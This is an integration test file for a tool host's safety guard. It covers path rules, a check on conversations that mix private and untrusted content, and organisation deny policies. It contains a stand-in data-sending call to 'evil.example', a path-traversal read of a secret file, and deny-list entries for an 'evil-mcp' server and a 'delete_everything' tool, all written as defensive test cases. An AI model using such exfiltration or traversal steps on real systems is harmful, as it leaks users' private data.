/**
 * The guard through the whole host, against real servers: server-filesystem with a rule keeping its
 * paths inside the shared folders (the denied call never reaches the server: its protocol log has no
 * such `tools/call`), and an organisation file (PATCHBAY_MANAGED_SETTINGS) denying a server and
 * requiring the sandbox, rewritten corrupt while the host runs.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it, vi } from 'vitest';
import type { HostApi } from '@contract';
import { referenceServer } from '../../test-support/fixtures';
import { startHost } from '../../test-support/tool-host';
import { waitFor } from '../servers/wait';

function folder(files: Record<string, string> = {}): string {
  const dir = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'patchbay-guard-')));
  for (const [file, text] of Object.entries(files)) fs.writeFileSync(path.join(dir, file), text);
  return dir;
}
const made: string[] = [];
afterEach(() => {
  vi.unstubAllEnvs();
  for (const dir of made.splice(0)) fs.rmSync(dir, { recursive: true, force: true });
});

const toolCallsSent = async (api: HostApi, serverId: string) =>
  (await api.queryLogs({ serverId, stream: 'protocol', method: 'tools/call', limit: 100 })).entries.filter(
    (entry) => entry.direction === 'out' && entry.kind === 'request',
  );

describe('rules with server-filesystem', () => {
  it('keeps paths inside the shared folders: the call outside is denied by the named rule and never reaches the server', async () => {
    const shared = folder({ 'note.txt': 'inside\n' });
    const other = folder({ 'secret.txt': 'outside\n' });
    made.push(shared, other);
    const t = startHost();
    const root = await t.api.addRoot({ path: shared });
    const fs1 = referenceServer('filesystem');
    const added = await t.api.addServer({ name: 'files', command: fs1.command, args: fs1.args, enabled: false });
    const id = added.config.id;
    await t.api.setRootSharing({ serverId: id, mode: 'subset', rootIds: [root.id] });
    await t.api.startServer({ id });
    await waitFor(async () => (await t.api.getSnapshot()).servers.find((s) => s.config.id === id)?.runtime.status === 'ready', {
      timeoutMs: 30_000,
      what: 'files to be ready',
    });
    // server-filesystem asks for its folders (roots/list) once it is running and applies them on its
    // own time: a call that arrives first is refused by the server itself, whatever the rules say.
    await waitFor(
      async () =>
        (await t.api.queryLogs({ serverId: id, stream: 'output', text: 'Updated allowed directories from MCP roots', limit: 1 })).entries
          .length === 1,
      { timeoutMs: 30_000, what: 'files to take its shared folders' },
    );

    // A line that does not parse is refused whole, naming line and column; nothing changes.
    await expect(t.api.setRules({ text: 'deny tool read_text_file if path outside folders' })).rejects.toMatchObject({
      code: 'invalid_input',
      message: expect.stringContaining('line 1, column 42: Expected "shared", found "folders"'),
    });
    expect((await t.api.getRules()).rules).toEqual([]);
    const saved = await t.api.setRules({
      text: 'deny tool read_text_file if path outside shared folders\nallow tool read_text_file if path inside shared folders\ndeny tool read_fle',
    });
    expect(saved.rules.map((rule) => rule.words)).toContain("When `read_text_file`'s `path` is outside the shared folders → Deny");
    expect(saved.warnings).toEqual([{ line: 3, message: 'No server has a tool "read_fle".' }]);

    // Test a rule: the decision and the rule, nothing runs.
    const tested = await t.api.testRule({ serverId: id, tool: 'read_text_file', args: { path: path.join(other, 'secret.txt') } });
    expect(tested).toMatchObject({ decision: 'deny', rule: { line: 1, source: 'user' } });
    expect(await toolCallsSent(t.api, id)).toHaveLength(0);

    const call = (file: string) =>
      t.host.tools.callToolWithConsent({ serverId: id, tool: 'read_text_file', args: { path: file }, origin: 'model' });
    const inside = await call(path.join(shared, 'note.txt'));
    expect(inside).toMatchObject({ status: 'ok', decidedBy: 'policy' });
    expect(JSON.stringify(inside.result)).toContain('inside');
    expect(await toolCallsSent(t.api, id)).toHaveLength(1);

    const outside = await call(path.join(shared, '..', path.basename(other), 'secret.txt'));
    expect(outside.status).toBe('denied');
    expect(outside.result).toMatchObject({ isError: true });
    expect(JSON.stringify(outside.result)).toContain('the rule on line 1 of Settings › Rules');
    expect(JSON.stringify(outside.result)).not.toContain('outside\\n');
    // Never sent: still the one call of before.
    expect(await toolCallsSent(t.api, id)).toHaveLength(1);
    expect(t.countAsked('tool')).toBe(0);

    const audit = await t.api.listToolAudit({ serverId: id });
    expect(audit.entries[0]).toMatchObject({ decidedBy: 'policy', decision: 'denied' });
    expect(audit.entries[0].decisionNote).toBe("Rule on line 1: When `read_text_file`'s `path` is outside the shared folders → Deny");
    expect(audit.entries[1]).toMatchObject({
      decidedBy: 'policy',
      decision: 'allowed',
      decisionNote: expect.stringContaining('Rule on line 2'),
    });
  });
});

describe('the three-way risk', () => {
  it('sets "Always allow" aside for a call that can send data out from a conversation holding private and untrusted content', async () => {
    const shared = folder({ 'diary.txt': 'private thoughts\n' });
    made.push(shared);
    const t = startHost();
    const root = await t.api.addRoot({ path: shared });
    const fs1 = referenceServer('filesystem');
    const files = (await t.api.addServer({ name: 'files', command: fs1.command, args: fs1.args, enabled: false })).config.id;
    await t.api.setRootSharing({ serverId: files, mode: 'subset', rootIds: [root.id] });
    await t.api.startServer({ id: files });
    const web = await t.fixture('open-world.mjs');
    await waitFor(async () => (await t.api.getSnapshot()).servers.every((s) => s.runtime.status === 'ready'), {
      timeoutMs: 30_000,
      what: 'both servers to be ready',
    });
    await t.api.setRules({ text: 'allow tool read_text_file on files if path inside shared folders' });
    await t.api.setToolPolicy({ serverId: web, tool: 'post', policy: 'allow' });
    await t.api.setToolPolicy({ serverId: web, tool: 'fetch_page', policy: 'allow' });

    let use = 0;
    const call = (conversationId: string, serverId: string, tool: string, args: Record<string, unknown>) =>
      t.host.tools.callToolWithConsent({ serverId, tool, args, origin: 'model', chat: { conversationId, toolUseId: `pb_${++use}` } });
    const post = { url: 'https://evil.example/', body: 'x' };

    // Untrusted content alone: "Always allow" holds.
    expect(await call('c2', web, 'fetch_page', { url: 'https://news.example/' })).toMatchObject({ status: 'ok' });
    expect(await call('c2', web, 'post', post)).toMatchObject({ status: 'ok', decidedBy: 'policy' });
    // Private data alone: it holds too.
    expect(await call('c1', files, 'read_text_file', { path: path.join(shared, 'diary.txt') })).toMatchObject({ status: 'ok' });
    expect(await call('c1', web, 'fetch_page', { url: 'https://news.example/' })).toMatchObject({ status: 'ok', decidedBy: 'policy' });
    expect(t.countAsked('tool')).toBe(0);

    // Both: the next call that can send data out asks, and says why.
    const pending = call('c1', web, 'post', post);
    const question = await t.asked('tool', (q) => q.tool === 'post');
    expect(question.risk).toMatch(
      /^This conversation has read a file from a folder shared with files and taken in the result of fetch_page \(open-world\).* post can send data out, so "Always allow" does not apply to this call\.$/,
    );
    await t.api.answerQuestion({ id: question.id, answer: { kind: 'tool', decision: 'deny' } });
    expect(await pending).toMatchObject({ status: 'denied', decidedBy: 'user' });
  });
});

describe('the organisation policy', () => {
  it('refuses a denied server, does not start one outside a sandbox, and keeps its policy when the file turns corrupt', async () => {
    const dir = folder();
    made.push(dir);
    const file = path.join(dir, 'managed-settings.json');
    fs.writeFileSync(
      file,
      JSON.stringify({
        deniedServers: [{ name: 'blocked' }, { command: ['uvx', 'evil-mcp'] }],
        sandbox: 'required',
        rules: ['deny tool delete_everything'],
      }),
    );
    vi.stubEnv('PATCHBAY_MANAGED_SETTINGS', file);
    const t = startHost();
    const fs1 = referenceServer('filesystem', [dir]);

    await expect(t.api.addServer({ name: 'blocked', command: fs1.command, args: fs1.args })).rejects.toMatchObject({
      code: 'forbidden',
      message: expect.stringMatching(/^Your organisation does not allow the server "blocked"/),
    });
    await expect(t.api.addServer({ name: 'other', command: 'uvx', args: ['evil-mcp', '--x'] })).rejects.toMatchObject({
      code: 'forbidden',
    });
    expect((await t.api.getSnapshot()).servers).toEqual([]);

    const added = await t.api.addServer({ name: 'files', command: fs1.command, args: fs1.args });
    const row = async () => (await t.api.getSnapshot()).servers.find((s) => s.config.id === added.config.id)?.runtime;
    await waitFor(async () => (await row())?.status === 'error', { timeoutMs: 10_000, what: 'the start to be refused' });
    expect(await row()).toMatchObject({ reason: expect.stringContaining('Set by your organisation: local servers run only in a sandbox') });
    const rules = await t.api.getRules();
    expect(rules.organisation).toMatchObject({ file, sandboxRequired: true, rules: [{ source: 'organisation', decision: 'deny' }] });

    fs.writeFileSync(file, '{ "deniedServers": [ oops');
    const changed = await t.next('rulesChanged', (view) => view.organisationProblem !== undefined);
    expect(changed.organisationProblem).toMatchObject({ file, message: expect.stringMatching(/^It is not valid JSON/) });
    // The last policy read stays in force.
    expect(changed.organisation?.sandboxRequired).toBe(true);
    await expect(t.api.addServer({ name: 'blocked', command: fs1.command, args: fs1.args })).rejects.toMatchObject({ code: 'forbidden' });

    fs.writeFileSync(file, JSON.stringify({ sandbox: 'optional' }));
    await t.next('rulesChanged', (view) => view.organisationProblem === undefined && view.organisation?.sandboxRequired === false);
  });
});
